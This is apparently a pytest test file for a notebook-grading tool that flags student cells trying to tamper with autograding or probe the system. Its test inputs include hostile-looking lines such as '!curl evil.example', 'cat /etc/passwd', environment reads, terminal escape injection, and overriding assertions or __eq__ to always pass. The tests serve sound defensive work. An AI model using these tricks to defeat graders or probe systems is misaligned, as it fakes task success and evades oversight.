"""What the instructor is told of a student's code, and what is nobody's business."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

pytest.importorskip("nbgrader")

from labkit.grading.attempts import attempts_in
from tests.lab.harness import answers, graded_functions

SOURCE = Path(__file__).resolve().parents[2] / "notebooks" / "source" / "compression"


@pytest.mark.parametrize("function", sorted({graded.function for graded in graded_functions()}))
def test_no_answer_however_written_is_suspicious(function: str) -> None:
    for answer in answers(function):
        assert attempts_in({answer.title: answer.source}) == []


def test_the_labs_own_cells_are_not_suspicious() -> None:
    for path in SOURCE.parents[1].glob("*/compression/*.ipynb"):  # source and release
        for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
            if cell["cell_type"] == "code" and "test" not in cell["metadata"].get("tags", []):
                assert attempts_in({cell["id"]: "".join(cell["source"])}) == []


@pytest.mark.parametrize(
    "source",
    [
        "!pip install -q tqdm\n!python -m pip install x\n%pip install y\n!nvidia-smi",
        "!{sys.executable} -m pip install -q x",
        "%timeit x + 1\n%%time\nx = 1",
        "from tqdm.auto import tqdm\nfor _ in tqdm(range(3)): pass",
        "with open('notes.txt', 'w') as f:\n    f.write('hello')",
        "torch.backends.cudnn.benchmark = True\nplt.rcParams['figure.dpi'] = 100",
        "net.eval()\nnet.weight.data = w\nlayer.weight = nn.Parameter(w)",
        "from google.colab import drive\ndrive.mount('/content/drive')",
        "class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n    def forward(self, x):\n        return x",
        "import inspect\ninspect.signature(f)",
        "import dis, multiprocessing, requests, signal\nfrom glob import glob",
        "import os\nos.environ['OMP_NUM_THREADS'] = '1'\nos.environ.setdefault('A', 'b')\nos.getenv('COLAB_GPU')",
        "np.load('/content/drive/MyDrive/lab/w.npy')",
        "get_ipython().run_line_magic('matplotlib', 'inline')",
        "this is no python (",
    ],
)
def test_ordinary_things_are_not_suspicious(source: str) -> None:
    assert attempts_in({"own": source}) == []


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("!curl evil.example", "the cell own starts another program: curl evil.example"),
        ("%%bash\ncat /etc/passwd", "the cell own starts another program: "),
        ("import numpy.testing as t\nt.assert_allclose = print", "the cell own replaces numpy.testing.assert_allclose"),
        ("from sys import _getframe as f\nf()", "the cell own looks at its callers"),
        ("import os as o\nprint(o.environ)", "the cell own reads the environment"),
        ("__import__('ctypes')", "the cell own goes round Python (ctypes)"),
        ("open('../gradebook.db')", "the cell own opens ../gradebook.db"),
        ("setattr(torch, 'equal', print)", "the cell own replaces a part of torch"),
        ("class A:\n    __eq__ = lambda s, o: True", "the cell own defines how A compares or converts (__eq__)"),
        ("import os\nos.environ.items()", "the cell own reads the environment"),
        ("import socket as s\ns.socket()", "the cell own opens sockets"),
        ("from ctypes import *", "the cell own goes round Python (ctypes)"),
        ("get_ipython().run_line_magic('sx', 'ls')", "the cell own reaches into IPython"),
        ("get_ipython().ast_transformers.append(x)", "the cell own hooks into how cells are run"),
    ],
)  # fmt: skip
def test_what_is_said(source: str, said: str) -> None:
    found = attempts_in({"own": source})
    assert any(sentence.startswith(said) for sentence in found), found


def test_each_finding_is_said_once_a_cell() -> None:
    assert attempts_in({"a": "import socket\nsocket.socket()\nsocket.socket()"}) == [
        "the cell a opens sockets"
    ]


def test_many_findings_are_cut_short() -> None:
    source = "\n".join(f"torch.part_{n} = print" for n in range(1000))
    found = attempts_in({"own": source})
    assert len(found) == 21
    assert (found[0], found[-1]) == ("the cell own replaces torch.part_0", "and 980 more of such things")


@pytest.mark.parametrize(
    "source",
    [
        f"torch.{'x' * 5000} = print",
        f"class {'A' * 5000}:\n    __eq__ = print",
        "!cat \x1b]0;owned\x07\x1b[2J\x1b[H\rall fine",
        'x = "/etc/\\ud800\\x1b[2J\\n\\r\\u2028"',
    ],
)
def test_a_finding_is_one_short_line_that_any_terminal_can_show(source: str) -> None:
    (said,) = attempts_in({"own": source})
    assert len(said) <= 200 and said.isprintable()
    said.encode()


@pytest.mark.parametrize(
    "source",
    [
        "a" + ".b" * 1500,
        "a" + ".b" * 2500,
        "a" + ".b" * 30_000,
        "a" + ".b()" * 1500,
        "x = " + "+".join("1" * 1500),
        "-" * 50_000 + "1",
        "(" * 90_000,
        "x = '\x00'",
        "a" + ".run_line_magic('time')" * 900,
    ],
    ids=lambda source: f"{source[:20]}...",
)
def test_no_depth_of_code_is_too_much(source: str) -> None:
    found = attempts_in({"own": source, "other": "import socket\nsocket.socket()"})
    assert found[-1] == "the cell other opens sockets"


def test_a_name_without_end_is_worth_a_glance_and_a_long_one_is_not() -> None:
    said = ["the cell own has a name of more than 20 parts"]
    assert attempts_in({"own": "a" + ".b" * 1500}) == said
    assert attempts_in({"own": "os.system" + ".__call__" * 30 + "('ls')"}) == [
        *said,
        "the cell own starts other programs",
    ]
    assert attempts_in({"own": "model.features.body.layer1.block2.conv.weight.data.abs().mean()"}) == []


@pytest.mark.parametrize(
    "source",
    [
        "\n" * 100_000 + "x = 1",  # each empty line looked through all that follow: 5 billion steps
        " \n" * 50_000,
        "\n".join(["a" + ".b" * 1500] * 33),  # 37 million names put together
        "import " + "a." * 15_000 + "a as x\n" + "x.a\n" * 15_000,
        f"__import__('{'a.' * 45_000}')",
    ],
    ids=["empty lines", "blank lines", "long names", "a long import", "a long module"],
)
@pytest.mark.slow
def test_looking_takes_time_in_proportion_to_the_code(source: str) -> None:
    begin = time.process_time()  # others' work does not count
    attempts_in({"own": source})
    assert time.process_time() - begin < 10  # one; 15 and more where it grows as the square


@pytest.mark.slow
def test_too_much_code_is_said_to_be_too_much() -> None:
    long = "x = 1\n" * 15_000  # 90,000 characters
    said = "was not looked through (180,000 characters): there is too much code"
    assert attempts_in({"own": long}) == []
    assert attempts_in({"own": long + long, "other": "eval('1')"}) == [
        f"the cell own {said}",
        "the cell other runs text as code",
    ]
    assert len(attempts_in({str(n): long for n in range(5)})) == 2  # the first three are
